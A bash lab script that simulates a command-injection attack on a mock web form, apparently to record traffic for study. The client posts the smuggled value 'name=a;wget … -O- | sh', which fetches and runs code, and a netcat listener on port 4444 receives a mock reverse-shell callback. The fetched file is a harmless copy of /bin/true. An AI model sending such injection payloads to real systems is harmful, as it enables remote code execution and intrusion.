#!/bin/bash
# A stand-in for a server that runs what it is sent: its form takes a command, and for "wget" it fetches from the address
# there and connects to the visitor again. What it fetches is a harmless program of Debian's, which nobody starts.
. "$(dirname "$0")/../lab.sh"
need curl python3 netcat-openbsd
lab_start
cat >"$LAB/form.py" <<'P'
import http.server, re, socket, threading, time, urllib.request
def run(command):
    url = re.search(r"wget (http://[0-9.]+:\d+/\S+)", command)
    if not url: return
    time.sleep(1)
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url[1]).read()
    time.sleep(1)
    with socket.create_connection(("10.9.0.2", 4444)) as shell: shell.sendall(b"ready\n")
class Form(http.server.BaseHTTPRequestHandler):
    server_version, protocol_version = "form/1.0", "HTTP/1.1"
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        self.send_response(200); self.send_header("Content-Length", "0"); self.end_headers()
        threading.Thread(target=run, args=(body,)).start()
    def log_message(self, *_): pass
http.server.ThreadingHTTPServer(("", 80), Form).serve_forever()
P
mkdir "$LAB/www" && cp /bin/true "$LAB/www/update"
server_job python3 "$LAB/form.py"
on_client python3 -m http.server -d "$LAB/www" 8000 >/dev/null 2>&1 & JOBS+=($!)
on_client nc -lk 4444 >/dev/null & JOBS+=($!)
wait_port 80
sleep 1
on_client curl -sS -o /dev/null --noproxy '*' -d 'name=a;wget http://10.9.0.2:8000/update -O- | sh' "http://$SERVER/form"
sleep 4
lab_save
